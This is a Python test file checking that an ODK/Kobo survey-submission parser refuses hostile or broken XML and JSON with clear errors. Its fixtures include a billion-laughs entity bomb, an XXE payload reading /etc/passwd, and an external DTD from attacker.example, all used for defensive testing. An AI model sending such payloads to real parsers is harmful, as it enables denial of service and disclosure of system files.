"""Hostile or broken files are refused with a message and create nothing."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jokko.odk.parsing import (
    MAX_XML_BYTES,
    Submission,
    SubmissionError,
    parse_kobo_json,
    parse_xml,
)
from tests.odk import samples

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<data id="jokko_identification"><survivor><given_name>&lol9;</given_name></survivor>
<meta><instanceID>uuid:1</instanceID></meta></data>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<data id="jokko_identification"><survivor><given_name>&xxe;</given_name></survivor>
<meta><instanceID>uuid:2</instanceID></meta></data>"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE data SYSTEM "http://attacker.example/evil.dtd">
<data id="jokko_identification"><meta><instanceID>uuid:3</instanceID></meta></data>"""


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (BILLION_LAUGHS, "DTD or entity"),
        (EXTERNAL_ENTITY, "DTD or entity"),
        (PLAIN_DTD, "DTD or entity"),
        (samples.odk_xml(samples.IDENTIFICATION_ANSWERS)[:-40], "malformed or truncated"),
        (
            samples.odk_xml(samples.IDENTIFICATION_ANSWERS).replace(b"UTF-8", b"ISO-8859-1"),
            "declares the encoding",
        ),
        ("<?xml version='1.0'?><data>Aïssatou</data>".encode("latin-1"), "not valid UTF-8"),
        ("<data>é</data>".encode("utf-16"), "not valid UTF-8"),
        (b"", "empty"),
        (b"<data id='x'><given_name>A</given_name></data>", "no meta/instanceID"),
        (b"not xml at all", "malformed"),
    ],
)
def test_hostile_or_broken_xml_is_refused_with_a_message(data: bytes, words: str) -> None:
    with pytest.raises(SubmissionError, match=words):
        parse_xml(data)


def test_external_entity_never_reads_the_file() -> None:
    with pytest.raises(SubmissionError) as refused:
        parse_xml(EXTERNAL_ENTITY)
    assert "root:" not in str(refused.value)


def test_oversize_xml_is_refused_before_parsing() -> None:
    big = samples.odk_xml({"survivor": {"summary": "x" * (MAX_XML_BYTES + 1)}})
    with pytest.raises(SubmissionError, match="too large"):
        parse_xml(big)


def test_overlong_answer_is_refused() -> None:
    with pytest.raises(SubmissionError, match="too long"):
        parse_xml(samples.odk_xml({"case": {"summary": "x" * 20_000}}))


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (samples.kobo_json(samples.kobo_record(samples.IDENTIFICATION_ANSWERS))[:-25], "truncated"),
        (b'"just a string"', "no submission"),
        (b"[1, 2]", "not an object"),
        (json.dumps([{"survivor/given_name": "A"}]).encode(), "neither meta/instanceID"),
        (json.dumps({"_uuid": "u", "a": {"b": 1}, "c": [{"d": 1}], "e": [1]}).encode(), "“e”"),
        (b"[" * 100_000 + b"]" * 100_000, "cannot be read|malformed"),
        ('[{"_uuid": "é"}]'.encode("latin-1"), "not valid UTF-8"),
        (b"   ", "empty"),
    ],
)
def test_broken_kobo_json_is_refused_with_a_message(data: bytes, words: str) -> None:
    with pytest.raises(SubmissionError, match=words):
        parse_kobo_json(data)


def test_kobo_json_in_its_three_shapes() -> None:
    record = samples.kobo_record(samples.IDENTIFICATION_ANSWERS)
    for document in (record, [record], {"count": 1, "results": [record]}):
        [parsed] = parse_kobo_json(json.dumps(document).encode())
        assert parsed.instance_id == record["meta/instanceID"]
        assert parsed.get("given_name") == "Aïssatou"
        assert parsed.get("survivor/given_name") == "Aïssatou"
        assert parsed.submitted_at == "2026-11-20T09:15:02"


def _accepted_or_refused(call: object, data: bytes) -> None:
    try:
        result = call(data)  # type: ignore[operator]
    except SubmissionError as refusal:
        assert str(refusal)
    else:
        items = result if isinstance(result, list) else [result]
        assert all(isinstance(s, Submission) and s.instance_id for s in items)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2000))
def test_arbitrary_bytes_never_crash_either_parser(data: bytes) -> None:
    _accepted_or_refused(parse_xml, data)
    _accepted_or_refused(parse_kobo_json, data)


_names = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,8}", fullmatch=True)
_elements = st.recursive(
    st.tuples(_names, st.text(max_size=30)).map(
        lambda t: f"<{t[0]}>{t[1].replace('&', '&amp;').replace('<', '&lt;')}</{t[0]}>"
    ),
    lambda children: st.tuples(_names, st.lists(children, max_size=4)).map(
        lambda t: f"<{t[0]}>{''.join(t[1])}</{t[0]}>"
    ),
    max_leaves=20,
)


@settings(max_examples=200, deadline=None)
@given(_elements, st.sampled_from(["", "<!DOCTYPE d>", "<!-- c -->", "<?pi x?>"]), st.booleans())
def test_arbitrary_xml_is_accepted_or_refused_with_a_message(
    element: str, prefix: str, with_meta: bool
) -> None:
    meta = "<meta><instanceID>uuid:x</instanceID></meta>" if with_meta else ""
    document = f"{prefix}<data id='f'>{element}{meta}</data>".encode()
    _accepted_or_refused(parse_xml, document)
    _accepted_or_refused(parse_xml, document[: len(document) // 2])


@settings(max_examples=200, deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
        lambda c: st.lists(c, max_size=4) | st.dictionaries(st.text(max_size=10), c, max_size=4),
        max_leaves=20,
    )
)
def test_arbitrary_json_is_accepted_or_refused_with_a_message(document: object) -> None:
    _accepted_or_refused(parse_kobo_json, json.dumps(document).encode())
